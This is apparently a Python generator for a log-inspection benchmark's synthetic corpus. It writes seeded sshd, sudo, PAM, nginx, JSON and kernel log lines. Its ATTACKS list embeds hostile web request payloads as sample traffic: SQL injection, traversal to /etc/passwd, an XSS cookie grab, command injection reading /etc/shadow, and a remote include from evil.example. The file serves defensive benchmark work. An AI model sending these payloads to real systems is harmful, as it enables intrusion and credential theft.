#!/usr/bin/python3
"""Writes the log inspection benchmark's corpus (bench/loginspect/README.md).

A deterministic mix (seeded) of what a Linux web host logs: sshd (failed and accepted logins,
invalid users, brute-force bursts from a few addresses), sudo, PAM (su, sessions, auth failures),
nginx access logs (mostly normal traffic, some scanners, SQL injection / XSS / traversal
attempts, 4xx/5xx), JSON application logs (one object per line) and kernel messages (iptables,
USB, OOM, segfaults). Syslog lines carry a "Mmm dd hh:mm:ss host prog[pid]: " header; nginx and
JSON lines are written as those files hold them (no header).

usage: gen.py OUT [--lines N] [--seed S]
"""
import argparse
import random

MONTH = "Dec"
HOSTS = ["web1", "web2", "db1", "bastion"]
USERS = ["alice", "bob", "carol", "deploy", "www-data", "postgres", "backup", "ubuntu"]
BAD_USERS = ["admin", "test", "oracle", "guest", "user", "ftpuser", "pi", "git", "support"]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "curl/7.88.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Go-http-client/1.1",
]
SCANNER_AGENTS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3"]
PAGES = ["/", "/index.html", "/login", "/api/v1/items", "/api/v1/items/42", "/static/app.js",
         "/static/style.css", "/images/logo.png", "/favicon.ico", "/cart", "/search?q=shoes",
         "/account/orders?page=2", "/health"]
ATTACKS = [
    "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/product.php?id=1' or '1'='1",
    "/index.php?page=../../../../etc/passwd",
    "/cgi-bin/test.cgi?x=<script>alert(document.cookie)</script>",
    "/wp-login.php", "/phpmyadmin/index.php", "/.env", "/.git/config",
    "/admin/config.php?cmd=;cat%20/etc/shadow",
    "/index.php?file=http://evil.example/shell.txt?",
    "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
]
SERVICES = ["api", "billing", "auth", "worker", "search"]
COMMANDS = ["/usr/bin/apt update", "/usr/bin/systemctl restart nginx", "/bin/cat /var/log/syslog",
            "/usr/bin/journalctl -u nginx", "/usr/bin/docker ps", "/bin/bash"]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.t = 7 * 86400 + 6 * 3600  # Dec 7, 06:00:00
        self.pid = 1000

    def ip(self, bad=False):
        r = self.r
        if bad:
            return r.choice(["185.220.101.", "45.155.205.", "193.32.162.", "222.186.42."]) + str(r.randint(1, 254))
        return "%d.%d.%d.%d" % (r.choice([10, 172, 192, 81, 93, 203]), r.randint(0, 255),
                                r.randint(0, 255), r.randint(1, 254))

    def tick(self):
        self.t += self.r.choice([0, 0, 0, 1])
        return self.t

    def stamp(self):
        t = self.tick()
        d, s = divmod(t, 86400)
        return "%s %2d %02d:%02d:%02d" % (MONTH, d, s // 3600, s // 60 % 60, s % 60)

    def clf(self):
        t = self.t
        d, s = divmod(t, 86400)
        return "%02d/%s/2026:%02d:%02d:%02d +0000" % (d, MONTH, s // 3600, s // 60 % 60, s % 60)

    def iso(self):
        t = self.t
        d, s = divmod(t, 86400)
        return "2026-12-%02dT%02d:%02d:%02d.%03dZ" % (d, s // 3600, s // 60 % 60, s % 60,
                                                     self.r.randint(0, 999))

    def syslog(self, prog, msg, pid=True):
        self.pid = self.pid + 1 if self.r.random() < 0.3 else self.pid
        p = "%s[%d]" % (prog, self.pid) if pid else prog
        return "%s %s %s: %s" % (self.stamp(), self.r.choice(HOSTS), p, msg)

    def sshd(self):
        r = self.r
        x = r.random()
        if x < 0.30:
            return [self.syslog("sshd", "Accepted publickey for %s from %s port %d ssh2: RSA SHA256:%s"
                                % (r.choice(USERS), self.ip(), r.randint(1024, 65535),
                                   "".join(r.choice("abcdefABCDEF0123456789") for _ in range(43))))]
        if x < 0.45:
            return [self.syslog("sshd", "Failed password for %s from %s port %d ssh2"
                                % (r.choice(USERS + ["root"]), self.ip(r.random() < 0.5), r.randint(1024, 65535)))]
        if x < 0.55:
            return [self.syslog("sshd", "Invalid user %s from %s port %d"
                                % (r.choice(BAD_USERS), self.ip(True), r.randint(1024, 65535)))]
        if x < 0.60:  # a brute-force burst from one address
            ip = self.ip(True)
            return [self.syslog("sshd", "Failed password for invalid user %s from %s port %d ssh2"
                                % (r.choice(BAD_USERS), ip, r.randint(1024, 65535)))
                    for _ in range(r.randint(6, 12))]
        if x < 0.75:
            return [self.syslog("sshd", "Connection closed by %s port %d [preauth]"
                                % (self.ip(), r.randint(1024, 65535)))]
        if x < 0.85:
            return [self.syslog("sshd", "Received disconnect from %s port %d:11: disconnected by user"
                                % (self.ip(), r.randint(1024, 65535)))]
        if x < 0.93:
            return [self.syslog("sshd", "Disconnected from user %s %s port %d"
                                % (r.choice(USERS), self.ip(), r.randint(1024, 65535)))]
        if x < 0.97:
            return [self.syslog("sshd", "error: maximum authentication attempts exceeded for root from %s port %d ssh2 [preauth]"
                                % (self.ip(True), r.randint(1024, 65535)))]
        return [self.syslog("sshd", "Did not receive identification string from %s port %d"
                            % (self.ip(True), r.randint(1024, 65535)))]

    def sudo(self):
        r = self.r
        u = r.choice(USERS[:5])
        if r.random() < 0.9:
            return [self.syslog("sudo", "   %s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s"
                                % (u, r.randint(0, 5), u, r.choice(COMMANDS)), pid=False)]
        if r.random() < 0.5:
            return [self.syslog("sudo", "   %s : 3 incorrect password attempts ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s"
                                % (u, r.randint(0, 5), u, r.choice(COMMANDS)), pid=False)]
        return [self.syslog("sudo", "   %s : user NOT in sudoers ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s"
                            % (u, r.randint(0, 5), u, r.choice(COMMANDS)), pid=False)]

    def pam(self):
        r = self.r
        x = r.random()
        u = r.choice(USERS)
        if x < 0.40:
            return [self.syslog("sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)"
                                % (u, r.randint(1000, 1010)))]
        if x < 0.75:
            return [self.syslog("sshd", "pam_unix(sshd:session): session closed for user %s" % u)]
        if x < 0.85:
            return [self.syslog("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")]
        if x < 0.93:
            return [self.syslog("su", "pam_unix(su:auth): authentication failure; logname=%s uid=%d euid=0 tty=pts/%d ruser=%s rhost=  user=root"
                                % (u, r.randint(1000, 1010), r.randint(0, 5), u))]
        if x < 0.97:
            return [self.syslog("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s"
                                % (self.ip(True), u))]
        return [self.syslog("su", "pam_unix(su:session): session opened for user root by %s(uid=%d)"
                            % (u, r.randint(1000, 1010)))]

    def nginx(self):
        r = self.r
        self.tick()
        x = r.random()
        if x < 0.86:
            ip, path, agent = self.ip(), r.choice(PAGES), r.choice(AGENTS)
            status = r.choice([200] * 20 + [301, 304, 304, 404, 500])
            method = "GET" if r.random() < 0.85 else "POST"
        elif x < 0.93:
            ip, path, agent = self.ip(True), r.choice(ATTACKS), r.choice(AGENTS + SCANNER_AGENTS)
            status, method = r.choice([400, 403, 404, 404, 200]), "GET"
        else:  # a scanner walking 404s
            ip, agent = self.ip(True), r.choice(SCANNER_AGENTS)
            return ['%s - - [%s] "GET /%s HTTP/1.1" 404 162 "-" "%s"'
                    % (ip, self.clf(), "".join(r.choice("abcdefghij") for _ in range(8)), agent)
                    for _ in range(r.randint(5, 15))]
        return ['%s - %s [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"'
                % (ip, r.choice(["-"] * 9 + ["alice"]), self.clf(), method, path, status,
                   r.randint(100, 50000), r.choice(["-", "https://shop.example/"]), agent)]

    def json(self):
        r = self.r
        self.tick()
        lvl = r.choice(["info"] * 8 + ["warn", "error"])
        return ['{"timestamp":"%s","level":"%s","service":"%s","trace_id":"%016x","user":"%s",'
                '"src_ip":"%s","http":{"method":"%s","path":"%s","status":%d},"duration_ms":%d,'
                '"msg":"%s"}'
                % (self.iso(), lvl, r.choice(SERVICES), r.getrandbits(64), r.choice(USERS),
                   self.ip(), r.choice(["GET", "POST", "PUT"]), r.choice(PAGES),
                   r.choice([200, 200, 200, 201, 400, 401, 500]), r.randint(1, 900),
                   r.choice(["request served", "cache miss", "login failed", "payment declined",
                             "upstream timeout"]))]

    def kernel(self):
        r = self.r
        x = r.random()
        up = "[%d.%06d] " % (r.randint(1000, 900000), r.randint(0, 999999))
        if x < 0.6:
            return [self.syslog("kernel", up + "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=%s DST=10.0.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0"
                                % (self.ip(True), r.randint(30, 250), r.randint(1, 65535),
                                   r.randint(1024, 65535), r.choice([22, 23, 80, 443, 3389, 5432])), pid=False)]
        if x < 0.75:
            return [self.syslog("kernel", up + "usb 1-1: new high-speed USB device number %d using xhci_hcd" % r.randint(2, 9), pid=False)]
        if x < 0.85:
            return [self.syslog("kernel", up + "%s[%d]: segfault at 0 ip 000055d5c3a1b2c3 sp 00007ffd1c2b3a40 error 4 in %s[55d5c3a00000+1f000]"
                                % (r.choice(["php-fpm", "node", "python3"]), r.randint(1000, 60000),
                                   r.choice(["php-fpm", "node", "python3"])), pid=False)]
        if x < 0.92:
            return [self.syslog("kernel", up + "Out of memory: Killed process %d (%s) total-vm:%dkB, anon-rss:%dkB"
                                % (r.randint(1000, 60000), r.choice(["java", "postgres", "node"]),
                                   r.randint(10 ** 6, 10 ** 7), r.randint(10 ** 5, 10 ** 6)), pid=False)]
        return [self.syslog("kernel", up + "device eth0 entered promiscuous mode", pid=False)]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=16)
    a = ap.parse_args()
    g = Gen(a.seed)
    mix = [(g.sshd, 20), (g.sudo, 8), (g.pam, 12), (g.nginx, 35), (g.json, 15), (g.kernel, 10)]
    kinds = [f for f, w in mix for _ in range(w)]
    n = 0
    with open(a.out, "w") as f:
        while n < a.lines:
            for line in g.r.choice(kinds)():
                f.write(line + "\n")
                n += 1
    print("%s: %d lines" % (a.out, n))


if __name__ == "__main__":
    main()
